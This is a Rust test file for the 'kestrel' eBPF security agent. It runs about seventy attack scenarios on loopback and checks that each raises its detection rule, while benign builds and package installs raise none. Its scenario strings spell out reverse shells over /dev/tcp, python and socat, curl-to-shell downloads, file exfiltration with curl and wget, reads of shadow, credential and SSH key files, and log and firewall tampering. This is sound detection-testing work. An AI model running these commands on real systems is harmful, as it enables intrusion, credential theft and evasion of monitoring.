//! Issue 14 item 2: the scenario corpus. Attack behaviours run for real on this host under the
//! real agent and collector (default rules), each asserting the rule it must raise; and a
//! benign corpus (a build and its test run, package installs with apt, pip and npm, git clone
//! and push, a podman container, a service restart, a cron-like job) that must raise nothing.
//!
//! Every scenario runs as `bash -c SCRIPT` in a scratch directory, started through a copy of
//! `timeout` named `tini` (a session boundary that forks its child and waits, as tini does), so
//! each scenario is a session of its own, as an intruder's SSH login would be: session
//! correlations and the alert fingerprint (by session) then tell one scenario's alerts from
//! another's. Only alerts naming the test's directory (command lines, working directories) are
//! counted, so other activity on the host does not count for or against a scenario. Scenarios
//! only touch scratch directories and remove what they put in system directories at once;
//! what would change the host's network (iptables, a tunnel's tun device, a metadata query)
//! runs in an empty network namespace (`unshare -n`), and attacks only address loopback. The
//! benign package installs reach the Debian, PyPI and npm registries, and must succeed: a
//! benign script that fails proves nothing, so the test fails with it. The tools the scenarios
//! run are in `cargo xtask setup`'s scenario packages. To cover a new behaviour, add a row.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use kestrel_testkit::{
    poll, read_json_lines, require_root_for_ebpf,
    stack::{certs, Agent, Collector},
};
use serde_json::Value;

const AGENT: &str = "scenario-agent";
/// How long an alert may take (exec to alert line is well under a second; correlations wait
/// for their last event).
const ALERT_WAIT: Duration = Duration::from_secs(15);

/// One attack scenario: what it is, the ATT&CK tactic, the bash script and the rule it must
/// raise. `{dir}` in the script is the scenario's scratch directory.
struct Scenario {
    name: &'static str,
    tactic: &'static str,
    script: &'static str,
    rule: &'static str,
}

const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "shadow file read with cat",
        tactic: "credential-access",
        script: "cat /etc/shadow >/dev/null; true",
        rule: "kestrel-cred-shadow-read-cli",
    },
    Scenario {
        name: "file uploaded with curl -T",
        tactic: "exfiltration",
        script: "curl -s -m 2 -T /etc/hostname http://127.0.0.1:9/u || true",
        rule: "kestrel-exfil-http-upload-cli",
    },
    Scenario {
        name: "file posted with wget --post-file (another tool)",
        tactic: "exfiltration",
        script: "wget -q -T 2 -t 1 --post-file=/etc/hostname http://127.0.0.1:9/ -O /dev/null || true",
        rule: "kestrel-exfil-http-upload-cli",
    },
    Scenario {
        name: "tar piped into ssh 'cat > file'",
        tactic: "exfiltration",
        script: "tar cz -C {dir} . 2>/dev/null | ssh -o BatchMode=yes -o ConnectTimeout=1 -p 9 127.0.0.1 'cat > /tmp/x.tgz' 2>/dev/null || true",
        rule: "kestrel-exfil-ssh-remote-write",
    },
    Scenario {
        name: "archive made with a password",
        tactic: "collection",
        script: "zip -q -P s3cret {dir}/l.zip /etc/hostname",
        rule: "kestrel-collection-archive-with-password",
    },
    Scenario {
        name: "python pty.spawn of a shell",
        tactic: "execution",
        script: "echo exit | timeout 5 /usr/bin/python3 -c 'import pty; pty.spawn(\"/bin/sh\")' >/dev/null",
        rule: "kestrel-exec-interactive-shell-from-interpreter",
    },
    Scenario {
        name: "awk system('/bin/sh') (another interpreter)",
        tactic: "execution",
        script: "awk 'BEGIN { system(\"/bin/sh\") }' </dev/null",
        rule: "kestrel-exec-interactive-shell-from-interpreter",
    },
    Scenario {
        name: "find -exec /bin/sh (a GTFOBin)",
        tactic: "execution",
        script: "find /etc/hostname -exec /bin/sh \\; </dev/null",
        rule: "kestrel-exec-interactive-shell-from-interpreter",
    },
    Scenario {
        name: "perl replaces itself with a shell",
        tactic: "execution",
        script: "perl -e 'exec \"/bin/sh\";' </dev/null",
        rule: "kestrel-exec-interpreter-oneliner-shell",
    },
    Scenario {
        name: "Python .pth startup hook",
        tactic: "persistence",
        script: "/usr/bin/python3 -c \"open('/usr/lib/python3/dist-packages/zz_kestrel_scenario.pth','w').write('# test')\"; rm -f /usr/lib/python3/dist-packages/zz_kestrel_scenario.pth",
        rule: "kestrel-persistence-python-startup-hook",
    },
    Scenario {
        name: "library path added to ld.so.conf.d",
        tactic: "persistence",
        script: "echo '# test' > /etc/ld.so.conf.d/zz-kestrel-scenario.conf; rm -f /etc/ld.so.conf.d/zz-kestrel-scenario.conf",
        rule: "kestrel-persistence-ld-so-conf-written",
    },
    Scenario {
        name: "udev rule written",
        tactic: "persistence",
        script: "mkdir -p /etc/udev/rules.d && echo '# test' > /etc/udev/rules.d/99-kestrel-scenario.rules; rm -f /etc/udev/rules.d/99-kestrel-scenario.rules",
        rule: "kestrel-persistence-udev-rule-written",
    },
    Scenario {
        name: "XDG autostart entry",
        tactic: "persistence",
        script: "mkdir -p $HOME/.config/autostart && echo '[Desktop Entry]' > $HOME/.config/autostart/kestrel-scenario.desktop; rm -f $HOME/.config/autostart/kestrel-scenario.desktop",
        rule: "kestrel-persistence-xdg-autostart-written",
    },
    Scenario {
        name: "systemd generator dropped",
        tactic: "persistence",
        script: "mkdir -p /etc/systemd/system-generators && echo '# test' > /etc/systemd/system-generators/kestrel-scenario; rm -f /etc/systemd/system-generators/kestrel-scenario",
        rule: "kestrel-persistence-systemd-generator-written",
    },
    Scenario {
        name: "motd script written",
        tactic: "persistence",
        script: "mkdir -p /etc/update-motd.d && echo '# test' > /etc/update-motd.d/99-kestrel-scenario; rm -f /etc/update-motd.d/99-kestrel-scenario",
        rule: "kestrel-persistence-motd-script-written",
    },
    Scenario {
        name: "transient systemd timer",
        tactic: "persistence",
        script: "systemd-run --on-active=3600 /bin/true >/dev/null 2>&1 || true",
        rule: "kestrel-persistence-at-job-scheduled",
    },
    Scenario {
        name: "program named kworker run from /tmp",
        tactic: "defense-evasion",
        script: "cp /bin/sleep {dir}/kworker && {dir}/kworker 0.1",
        rule: "kestrel-evasion-masquerading-daemon-name",
    },
    Scenario {
        name: "kill builtin stops a security tool (no exec)",
        tactic: "defense-evasion",
        script: "cp /bin/sleep {dir}/auditd; {dir}/auditd 30 & sleep 0.5; kill -9 $!; wait",
        rule: "kestrel-evasion-security-tool-signalled",
    },
    Scenario {
        name: "another process's memory opened through /proc/PID/mem",
        tactic: "privilege-escalation",
        script: "sleep 30 & sleep 0.2; /usr/bin/python3 -c \"import sys; open('/proc/%s/mem' % sys.argv[1], 'r+b')\" $!; kill $!; wait",
        rule: "kestrel-privesc-proc-mem-written",
    },
    Scenario {
        name: "port scan from a loop of /dev/tcp subshells",
        tactic: "discovery",
        script: "for p in $(seq 1 30); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true",
        rule: "kestrel-discovery-port-scan-session",
    },
    Scenario {
        name: "burst of discovery commands",
        tactic: "discovery",
        script: "id; uname -a; hostname; ps aux; cat /etc/passwd; ip a 2>/dev/null || true",
        rule: "kestrel-discovery-recon-burst",
    },
    Scenario {
        name: "files written, made executable and run",
        tactic: "execution",
        script: "/usr/bin/python3 -c \"import shutil,os; shutil.copy('/bin/true','{dir}/.d'); os.chmod('{dir}/.d',0o755)\" && {dir}/.d",
        rule: "kestrel-exec-written-chmod-run",
    },
    Scenario {
        name: "mass rename to a new extension",
        tactic: "impact",
        script: "mkdir -p {dir}/docs && for i in $(seq 1 30); do echo $i > {dir}/docs/f$i.txt; done; /usr/bin/python3 -c \"import glob,os; [os.rename(f, f + '.locked') for f in glob.glob('{dir}/docs/*')]\"",
        rule: "kestrel-impact-mass-rename",
    },
    Scenario {
        name: "mass rewrite of existing files",
        tactic: "impact",
        script: "d=$(mktemp -d /root/kestrel-scenario.XXXXXX) && for i in $(seq 1 60); do echo $i > $d/f$i.db; done && /usr/bin/python3 -c \"import glob; [open(f, 'w').write('x') for f in glob.glob('$d/*')]\"; rm -rf $d",
        rule: "kestrel-impact-mass-rewrite",
    },
    Scenario {
        name: "cryptominer command line (renamed binary)",
        tactic: "impact",
        script: "cp /bin/true {dir}/systemd-helper && {dir}/systemd-helper -o stratum+tcp://127.0.0.1:3333 -u wallet --donate-level 1",
        rule: "kestrel-impact-cryptominer-cli",
    },
    Scenario {
        name: "bounded fork bomb (1,500 forks)",
        tactic: "impact",
        script: "for i in $(seq 1 1500); do ( : ) & done; wait",
        rule: "kestrel-impact-fork-bomb",
    },
    Scenario {
        name: "reverse shell through /dev/tcp",
        tactic: "execution",
        script: "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null || true",
        rule: "10fbfae6-53fc-4c6a-9714-5cf54d2bd373",
    },
    Scenario {
        name: "download piped into a shell",
        tactic: "execution",
        script: "curl -s -m 1 http://127.0.0.1:9/x | sh",
        rule: "13fced68-518c-4dac-93fc-093763a7ee23",
    },
    Scenario {
        name: "base64-decoded script piped into a shell",
        tactic: "defense-evasion",
        script: "echo dHJ1ZQo= | base64 -d | sh",
        rule: "13fced68-518c-4dac-93fc-093763a7ee23",
    },
    Scenario {
        name: "python socket reverse shell",
        tactic: "command-and-control",
        script: "/usr/bin/python3 -c 'import socket,os;s=socket.socket();s.connect((\"127.0.0.1\",9));os.dup2(s.fileno(),0);os.execv(\"/bin/sh\",[\"sh\"])' 2>/dev/null || true",
        rule: "kestrel-exec-scripting-reverse-shell",
    },
    Scenario {
        name: "download saved into /dev/shm",
        tactic: "command-and-control",
        script: "curl -s -m 1 -o /dev/shm/kestrel-scenario http://127.0.0.1:9/ || true",
        rule: "kestrel-exec-download-to-temp-dir",
    },
    Scenario {
        name: "program run from /dev/shm",
        tactic: "defense-evasion",
        script: "cp /bin/true /dev/shm/kestrel-scenario && /dev/shm/kestrel-scenario; rm -f /dev/shm/kestrel-scenario",
        rule: "kestrel-exec-from-dev-shm",
    },
    Scenario {
        name: "fileless execution from a memfd",
        tactic: "defense-evasion",
        script: "/usr/bin/python3 -c \"import os; fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read()); os.execv('/proc/self/fd/%d' % fd, ['x'])\"",
        rule: "kestrel-exec-fileless-memfd",
    },
    Scenario {
        name: "hidden file dropped in /tmp",
        tactic: "defense-evasion",
        script: "touch /tmp/.kestrel-scenario && rm -f /tmp/.kestrel-scenario",
        rule: "kestrel-evasion-hidden-file-in-temp-dir",
    },
    Scenario {
        name: "shell history deleted",
        tactic: "defense-evasion",
        script: "touch {dir}/.bash_history && rm {dir}/.bash_history",
        rule: "kestrel-evasion-history-file-deleted",
    },
    Scenario {
        name: "log file truncated",
        tactic: "defense-evasion",
        script: "echo x > /var/log/kestrel-scenario.log && : > /var/log/kestrel-scenario.log; rm -f /var/log/kestrel-scenario.log",
        rule: "kestrel-evasion-log-file-truncated",
    },
    Scenario {
        name: "timestamps forged with touch -d",
        tactic: "defense-evasion",
        script: "touch {dir}/f && touch -d 2001-01-01 {dir}/f",
        rule: "kestrel-evasion-timestomp",
    },
    Scenario {
        name: "LD_PRELOAD on a command line",
        tactic: "persistence",
        script: "env LD_PRELOAD={dir}/x.so /bin/true 2>/dev/null; true",
        rule: "kestrel-persistence-ld-preload-command-line",
    },
    Scenario {
        name: "setuid bit set with chmod u+s",
        tactic: "privilege-escalation",
        script: "cp /bin/true {dir}/s && chmod u+s {dir}/s",
        rule: "kestrel-privesc-setuid-bit-set",
    },
    Scenario {
        name: "SSH authorized_keys written",
        tactic: "persistence",
        script: "mkdir -p {dir}/.ssh && echo 'ssh-ed25519 AAAA x' > {dir}/.ssh/authorized_keys",
        rule: "kestrel-persistence-authorized-keys-modified",
    },
    Scenario {
        name: "cron file written",
        tactic: "persistence",
        script: "echo '# test' > /etc/cron.d/kestrel-scenario; rm -f /etc/cron.d/kestrel-scenario",
        rule: "kestrel-persistence-cron-file-written",
    },
    Scenario {
        name: "systemd unit written",
        tactic: "persistence",
        script: "echo '[Unit]' > /etc/systemd/system/kestrel-scenario.service; rm -f /etc/systemd/system/kestrel-scenario.service",
        rule: "kestrel-persistence-systemd-unit-written",
    },
    Scenario {
        name: "profile.d script written",
        tactic: "persistence",
        script: "echo '# test' > /etc/profile.d/zz-kestrel-scenario.sh; rm -f /etc/profile.d/zz-kestrel-scenario.sh",
        rule: "kestrel-persistence-shell-profile-written",
    },
    Scenario {
        name: "sudoers.d file written",
        tactic: "privilege-escalation",
        script: "echo '# test' > /etc/sudoers.d/zz-kestrel-scenario; rm -f /etc/sudoers.d/zz-kestrel-scenario",
        rule: "kestrel-privesc-sudoers-modified",
    },
    Scenario {
        name: "SSH private key dumped with cat",
        tactic: "credential-access",
        script: "mkdir -p {dir}/.ssh && echo k > {dir}/.ssh/id_rsa && cat {dir}/.ssh/id_rsa",
        rule: "kestrel-cred-ssh-key-dumped-cli",
    },
    Scenario {
        name: "packet capture socket opened",
        tactic: "discovery",
        script: "/usr/bin/python3 -c \"import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\"",
        rule: "kestrel-discovery-packet-capture-socket",
    },
    Scenario {
        name: "python http.server --cgi runs a shell CGI script (web server spawns a shell)",
        tactic: "initial-access",
        // The server drops to nobody before running a script, so the web root is world-readable.
        script: "w=/dev/shm/kestrel-scenario-www; mkdir -p $w/cgi-bin; /usr/bin/python3 -c \"import os; os.write(os.open('$w/cgi-bin/status.sh', os.O_CREAT | os.O_WRONLY, 0o755), b'#!/bin/sh\\\\necho Content-Type: text/plain\\\\necho\\\\nid\\\\n')\"; /usr/bin/python3 -m http.server --cgi --bind 127.0.0.1 --directory $w 18181 >/dev/null 2>&1 & srv=$!; sleep 1.5; curl -s -m 3 http://127.0.0.1:18181/cgi-bin/status.sh >/dev/null; kill $srv; wait; rm -rf /dev/shm/kestrel-scenario-www",
        rule: "kestrel-initial-web-server-shell",
    },
    Scenario {
        name: "a listening service accepts a connection and execs a shell",
        tactic: "initial-access",
        script: "/usr/bin/python3 -c \"import socket,subprocess; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(('127.0.0.1', 18182)); s.listen(1); c,_=s.accept(); subprocess.run(['/bin/sh', '-c', 'id'], stdout=c.fileno())\" & sleep 1; echo hello > /dev/tcp/127.0.0.1/18182; wait",
        rule: "kestrel-initial-shell-after-inbound-connection",
    },
    Scenario {
        name: "ssh -i with a stolen key kept in /dev/shm",
        tactic: "lateral-movement",
        script: "k=/dev/shm/kestrel-scenario-key; echo k > $k; chmod 600 $k; ssh -i $k -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 root@127.0.0.1 id 2>/dev/null; rm -f $k; true",
        rule: "kestrel-lateral-ssh-key-from-temp-dir",
    },
    Scenario {
        name: "scp of a tool to another host's /tmp",
        tactic: "lateral-movement",
        script: "scp -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -P 9 /bin/true 127.0.0.1:/tmp/.kestrel-scenario 2>/dev/null; true",
        rule: "kestrel-lateral-copy-to-remote-temp-dir",
    },
    Scenario {
        name: "ssh -A with a command for the next hop",
        tactic: "lateral-movement",
        script: "ssh -A -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 127.0.0.1 'ssh 10.0.0.6 id' 2>/dev/null; true",
        rule: "kestrel-lateral-ssh-agent-forwarding",
    },
    Scenario {
        name: "ssh to another host running a downloaded script",
        tactic: "lateral-movement",
        script: "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 127.0.0.1 'wget -qO- http://127.0.0.1:9/x | bash' 2>/dev/null; true",
        rule: "kestrel-lateral-ssh-remote-payload",
    },
    Scenario {
        name: "ssh -R reverse tunnel",
        tactic: "command-and-control",
        script: "ssh -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -p 9 -N -R 18080:127.0.0.1:80 127.0.0.1 2>/dev/null; true",
        rule: "kestrel-c2-ssh-tunnel",
    },
    Scenario {
        name: "socat relays a listening port to another address",
        tactic: "command-and-control",
        script: "timeout 2 socat TCP-LISTEN:18183,bind=127.0.0.1,reuseaddr TCP:127.0.0.1:9 2>/dev/null; true",
        rule: "kestrel-c2-socat-relay",
    },
    Scenario {
        name: "iodine DNS tunnel client (in an empty network namespace)",
        tactic: "command-and-control",
        script: "unshare -n timeout 3 iodine -f -P kestrel 127.0.0.1 t.example.invalid >/dev/null 2>&1; true",
        rule: "kestrel-c2-tunnel-tool-started",
    },
    Scenario {
        name: "nc -l listener",
        tactic: "command-and-control",
        script: "timeout 2 nc -l 127.0.0.1 18184 </dev/null >/dev/null 2>&1; true",
        rule: "kestrel-c2-netcat-listener",
    },
    Scenario {
        name: "socat connects a shell to a socket",
        tactic: "execution",
        script: "timeout 2 socat exec:'sh -i',pty,stderr tcp:127.0.0.1:9 2>/dev/null; true",
        rule: "kestrel-exec-socat-reverse-shell",
    },
    Scenario {
        name: "another process's memory map read through /proc/PID/maps",
        tactic: "credential-access",
        script: "sleep 30 & sleep 0.2; /usr/bin/python3 -c \"import sys; open('/proc/%s/maps' % sys.argv[1]).read()\" $!; kill $!; wait",
        rule: "kestrel-cred-proc-memory-read",
    },
    Scenario {
        name: "recursive grep for passwords in /etc",
        tactic: "credential-access",
        script: "grep -rIsi password /etc >/dev/null; true",
        rule: "kestrel-cred-password-search-in-files",
    },
    Scenario {
        name: "AWS credentials file printed with cat",
        tactic: "credential-access",
        script: "mkdir -p {dir}/.aws && echo '[default]' > {dir}/.aws/credentials && cat {dir}/.aws/credentials",
        rule: "kestrel-cred-tool-credentials-read-cli",
    },
    Scenario {
        name: "cloud metadata credentials queried (in an empty network namespace)",
        tactic: "credential-access",
        script: "unshare -n curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/ 2>/dev/null; true",
        rule: "kestrel-cred-cloud-metadata-queried",
    },
    Scenario {
        name: "burst of network discovery commands",
        tactic: "discovery",
        script: "ip route >/dev/null; ss -tan >/dev/null; cat /etc/resolv.conf /etc/hosts >/dev/null; getent hosts localhost >/dev/null; hostname >/dev/null; uname -r >/dev/null; arp -n >/dev/null 2>&1; true",
        rule: "kestrel-discovery-recon-burst",
    },
    Scenario {
        name: "burst of privilege discovery commands",
        tactic: "discovery",
        script: "id >/dev/null; find /usr/bin -perm -4000 -type f >/dev/null; getcap -r /usr/bin >/dev/null 2>&1; cat /etc/group >/dev/null; groups >/dev/null; lsmod >/dev/null 2>&1; true",
        rule: "kestrel-discovery-recon-burst",
    },
    Scenario {
        name: "unset HISTFILE before working",
        tactic: "defense-evasion",
        script: "unset HISTFILE; export HISTSIZE=0; true",
        rule: "a3422841-812d-412c-ae1c-e645f7c65a55",
    },
    Scenario {
        name: "setenforce 0",
        tactic: "defense-evasion",
        script: "setenforce 0 2>/dev/null; true",
        rule: "kestrel-evasion-security-tool-stopped",
    },
    Scenario {
        name: "chattr +i locks a file (then -i undoes it)",
        tactic: "defense-evasion",
        script: "touch {dir}/keep && chattr +i {dir}/keep 2>/dev/null; chattr -i {dir}/keep 2>/dev/null; true",
        rule: "kestrel-evasion-immutable-attribute-changed",
    },
    Scenario {
        name: "iptables -F (in a new network namespace)",
        tactic: "defense-evasion",
        script: "unshare -n iptables -F 2>/dev/null; true",
        rule: "kestrel-evasion-firewall-disabled",
    },
    Scenario {
        name: "journal vacuumed (a scratch journal directory)",
        tactic: "defense-evasion",
        script: "mkdir -p {dir}/journal && journalctl --directory={dir}/journal --vacuum-time=1s >/dev/null 2>&1; true",
        rule: "kestrel-evasion-journal-cleared",
    },
    Scenario {
        name: "process renames itself to a kernel worker with prctl(PR_SET_NAME)",
        tactic: "defense-evasion",
        script: "/usr/bin/python3 -c \"import ctypes, time; ctypes.CDLL(None).prctl(15, b'kworker/0:2', 0, 0, 0); time.sleep(0.2)\"",
        rule: "kestrel-evasion-process-renamed",
    },
    Scenario {
        name: "file destroyed with shred -u",
        tactic: "impact",
        script: "echo secret > {dir}/data.db && shred -u -n 1 {dir}/data.db",
        rule: "kestrel-impact-file-shredded",
    },
    Scenario {
        name: "file-system signatures wiped with wipefs -a (a disk image)",
        tactic: "impact",
        script: "truncate -s 8M {dir}/disk.img && mkfs.ext4 -q -F {dir}/disk.img && wipefs -a {dir}/disk.img >/dev/null",
        rule: "kestrel-impact-disk-wiped",
    },
    Scenario {
        name: "three services stopped in a row",
        tactic: "impact",
        script: "for s in kestrel-scenario-db kestrel-scenario-web kestrel-scenario-backup; do systemctl stop $s >/dev/null 2>&1; done; true",
        rule: "kestrel-impact-services-stopped",
    },
    Scenario {
        name: "linpeas fetched with curl",
        tactic: "resource-development",
        script: "curl -s -m 1 -o {dir}/linpeas.sh http://127.0.0.1:9/peass/linpeas.sh 2>/dev/null; true",
        rule: "kestrel-resource-offensive-tool-downloaded",
    },
    Scenario {
        name: "nmap scan of loopback",
        tactic: "reconnaissance",
        script: "nmap -sT -Pn -p 1-20 --max-retries 0 127.0.0.1 >/dev/null 2>&1; true",
        rule: "kestrel-recon-network-scanner-started",
    },
];

/// Benign work that must raise no alert at all.
const BENIGN: &[(&str, &str)] = &[
    (
        "compile with gcc and run the program",
        "printf 'int main(void){return 0;}\\n' > {dir}/hello.c && gcc -O2 -o {dir}/hello {dir}/hello.c && {dir}/hello",
    ),
    (
        // The test script is created executable, as git checks out an executable file.
        "make builds two objects and runs the test script",
        "cd {dir} && printf 'int f(void){return 1;}\\n' > a.c && printf 'int f(void);int main(void){return f()-1;}\\n' > m.c && printf 'all: t\\nt: a.o m.o\\n\\tcc -o t a.o m.o\\n' > Makefile && make -s -j2 && /usr/bin/python3 -c \"import os; os.write(os.open('test.sh', os.O_CREAT | os.O_WRONLY, 0o755), b'#!/bin/sh\\\\n./t\\\\n')\" && ./test.sh",
    ),
    (
        "git init, commit and log",
        "cd {dir} && git init -q r && cd r && echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm init && git log --oneline >/dev/null",
    ),
    (
        "tar and gzip a tree, extract it again",
        "cd {dir} && mkdir -p src && echo x > src/a && tar czf s.tgz src && mkdir out && tar xzf s.tgz -C out",
    ),
    (
        "a developer checks who they are",
        "id >/dev/null; ps aux >/dev/null",
    ),
    (
        "apt-get reinstalls a small package",
        "DEBIAN_FRONTEND=noninteractive apt-get install --reinstall -y -q netcat-openbsd",
    ),
    (
        "apt-get download and dpkg -i of a package, then its removal",
        "cd {dir} && apt-get download -q hello && dpkg -i hello_*.deb && hello >/dev/null && dpkg -r hello",
    ),
    (
        "pip install of a small package into a venv",
        "/usr/bin/python3 -m venv {dir}/venv && {dir}/venv/bin/pip install -q --disable-pip-version-check six && {dir}/venv/bin/python -c 'import six'",
    ),
    (
        "npm install of a small package into a project",
        "cd {dir} && npm init -y >/dev/null && npm install --no-audit --no-fund --silent is-number && node -e \"require('is-number')\"",
    ),
    (
        "git clone of a repository, commit and push",
        "cd {dir} && git init -q --bare origin.git && git clone -q origin.git work 2>/dev/null && cd work && echo x > README && git add README && git -c user.name=a -c user.email=a@b commit -qm init && git push -q origin HEAD 2>/dev/null && git log --oneline >/dev/null",
    ),
    (
        // The image is a busybox root file system imported locally (never a registry pull).
        "a container run with podman",
        "cd {dir} && printf '[containers]\\ndefault_ulimits = []\\n\\n[engine]\\nruntime = \"runc\"\\n' > containers.conf && export CONTAINERS_CONF={dir}/containers.conf && mkdir -p rootfs/bin && cp /bin/busybox rootfs/bin/ && ln -s busybox rootfs/bin/echo && tar -C rootfs -cf rootfs.tar . && podman import -q rootfs.tar localhost/kestrel-benign:latest >/dev/null && podman run --rm --network none localhost/kestrel-benign:latest echo hello >/dev/null; podman rmi -f localhost/kestrel-benign:latest >/dev/null",
    ),
    (
        // As an init script does: start-stop-daemon with a pid file, stopped with TERM.
        "a daemon stopped and started again (service restart)",
        "cd {dir} && for i in 1 2; do start-stop-daemon --start --background --make-pidfile --pidfile {dir}/d.pid --exec /usr/bin/sleep -- 300 && sleep 0.3 && start-stop-daemon --stop --pidfile {dir}/d.pid --retry TERM/5 --remove-pidfile; done",
    ),
    (
        // The job is created executable, as a package installs it.
        "a cron-like job run by run-parts",
        "mkdir -p {dir}/cron.hourly && /usr/bin/python3 -c \"import os; os.write(os.open('{dir}/cron.hourly/stamp', os.O_CREAT | os.O_WRONLY, 0o755), b'#!/bin/sh\\\\ndate > {dir}/last-run\\\\n')\" && run-parts {dir}/cron.hourly && test -s {dir}/last-run",
    ),
];

/// Runs `script` in its own session (below `session_root`) in `dir`, for at most two minutes;
/// whether it exited 0.
fn run(session_root: &Path, dir: &Path, script: &str) -> bool {
    let script = script.replace("{dir}", &dir.display().to_string());
    Command::new(session_root)
        .args(["120", "/bin/bash", "-c", &script])
        .current_dir(dir)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap()
        .success()
}

/// The alerts about this test's processes (their command lines or working directories name
/// `dir`), in arrival order.
fn alerts(path: &Path, dir: &Path) -> Vec<Value> {
    let dir = dir.display().to_string();
    read_json_lines(path)
        .into_iter()
        .filter(|a| a.to_string().contains(&dir))
        .collect()
}

/// `timeout` copied as `tini`: it forks the scenario's shell and waits, and the session table
/// starts a session below a process of that name.
fn session_root(dir: &Path) -> PathBuf {
    let root = dir.join("bin/tini");
    std::fs::create_dir_all(root.parent().unwrap()).unwrap();
    std::fs::copy("/usr/bin/timeout", &root).unwrap();
    root
}

#[test]
fn attack_scenarios_raise_their_rules_and_benign_work_raises_nothing() {
    if !require_root_for_ebpf() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let pki = dir.path().join("pki");
    certs(&pki, AGENT);
    let mut collector = Collector::new(dir.path(), &pki, &[]);
    collector.start();
    let mut agent = Agent::new(dir.path(), &pki, AGENT, collector.port, &[]);
    agent.start();
    agent.expect_connected();
    let root = session_root(dir.path());

    // Benign first, while the alert file is empty: nothing at all may arrive.
    let mut benign_failed = Vec::new();
    for (i, (name, script)) in BENIGN.iter().enumerate() {
        let scratch = dir.path().join(format!("benign-{i}"));
        std::fs::create_dir_all(&scratch).unwrap();
        let ok = run(&root, &scratch, script);
        eprintln!("benign: {name}: {}", if ok { "ran" } else { "FAILED" });
        if !ok {
            benign_failed.push(*name);
        }
    }
    assert!(
        benign_failed.is_empty(),
        "benign work did not succeed (it proves nothing then): {benign_failed:?}"
    );
    std::thread::sleep(Duration::from_secs(5));
    let benign_alerts: Vec<String> = alerts(&collector.alerts, dir.path())
        .iter()
        .map(|a| format!("{} on {}", a["rule"]["id"], a["process"]["command_line"]))
        .collect();

    let mut results: Vec<(&Scenario, bool, Duration)> = Vec::new();
    for (i, scenario) in SCENARIOS.iter().enumerate() {
        let scratch = dir.path().join(format!("scenario-{i}"));
        std::fs::create_dir_all(&scratch).unwrap();
        let before = alerts(&collector.alerts, dir.path()).len();
        let started = Instant::now();
        // Attacks often fail on purpose (nothing listens on port 9): only their alerts count.
        let _ = run(&root, &scratch, scenario.script);
        let found = poll(ALERT_WAIT, || {
            alerts(&collector.alerts, dir.path())
                .iter()
                .skip(before)
                .any(|a| a["rule"]["id"] == scenario.rule)
                .then_some(())
        });
        results.push((scenario, found.is_some(), started.elapsed()));
    }

    // Detected / total per tactic, then every miss with what did arrive.
    let mut tactics: std::collections::BTreeMap<&str, (usize, usize)> = Default::default();
    for (s, ok, _) in &results {
        let t = tactics.entry(s.tactic).or_default();
        t.1 += 1;
        if *ok {
            t.0 += 1;
        }
    }
    for (tactic, (ok, total)) in &tactics {
        eprintln!("{tactic}: {ok}/{total} detected");
    }
    let misses: Vec<String> = results
        .iter()
        .filter(|(_, ok, _)| !ok)
        .map(|(s, _, _)| format!("{} ({}): expected {}", s.name, s.tactic, s.rule))
        .collect();
    let arrived: Vec<String> = alerts(&collector.alerts, dir.path())
        .iter()
        .map(|a| format!("{} {}", a["rule"]["id"], a["process"]["command_line"]))
        .collect();
    assert!(
        misses.is_empty() && benign_alerts.is_empty(),
        "missed: {misses:#?}\nbenign work raised: {benign_alerts:#?}\nall alerts: {arrived:#?}\nagent log tail:\n{}",
        kestrel_testkit::stack::tail(&agent.logs(), 20)
    );
}
